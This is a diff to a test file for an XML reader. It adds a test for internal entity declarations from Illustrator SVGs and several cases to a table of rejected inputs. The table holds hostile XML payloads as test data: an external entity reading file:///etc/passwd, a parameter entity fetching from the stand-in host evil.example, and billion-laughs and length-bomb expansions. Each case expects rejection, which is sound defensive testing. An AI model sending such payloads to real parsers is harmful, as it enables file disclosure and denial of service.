@@ -25,6 +25,15 @@ describe('readXml', () => {
     expect(root('<a b="1\n2"/>').attributes.get('b')).toBe('1 2')
   })
 
+  it('writes out names for plain words, as Illustrator declares them of its namespaces', () => {
+    const svg = root(`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd" [
+\t<!ENTITY ns_svg "http://www.w3.org/2000/svg">
+\t<!ENTITY title 'Pump 水泵'>
+]>
+<svg xmlns="&ns_svg;">&lt;&ns_svg;</svg>`)
+    expect([svg.attributes.get('xmlns'), svg.children, svg.line]).toEqual(['http://www.w3.org/2000/svg', ['<http://www.w3.org/2000/svg'], 5])
+  })
+
   it('keeps keys of prototypes as plain names', () => {
     const element = root('<a __proto__="1" constructor="2"/>')
     expect(element.attributes.get('__proto__')).toBe('1')
@@ -35,6 +44,12 @@ describe('readXml', () => {
     ['billion laughs', '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY l2 "&lol;&lol;">]><lolz>&l2;</lolz>', 'xml.declaration'],
     ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'xml.declaration'],
     ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a/>', 'xml.declaration'],
+    ['an entity of markup', '<!DOCTYPE a [<!ENTITY x "<b/>">]><a>&x;</a>', 'xml.declaration'],
+    ['an entity of a character number', '<!DOCTYPE a [<!ENTITY x "&#60;b/>">]><a>&x;</a>', 'xml.declaration'],
+    ['another declaration than of entities', '<!DOCTYPE a [<!ATTLIST a b CDATA "x">]><a/>', 'xml.declaration'],
+    ['declarations without end', `<!DOCTYPE a [${'<!ENTITY x "y">'.repeat(3)}<a/>`, 'xml.declaration'],
+    ['very many entities', `<!DOCTYPE a [${Array.from({ length: 101 }, (_, i) => `<!ENTITY x${i} "y">`).join('')}]><a/>`, 'xml.declaration'],
+    ['words written out without end', `<!DOCTYPE a [<!ENTITY x "${'y'.repeat(500)}">]><a>${'&x;'.repeat(2001)}</a>`, 'xml.tooLong'],
     ['a declaration inside', '<a><!ENTITY x "y"></a>', 'xml.declaration'],
     ['an unknown entity', '<a>&nbsp;</a>', 'xml.entity'],
     ['a bare ampersand', '<a b="x & y"/>', 'xml.entity'],
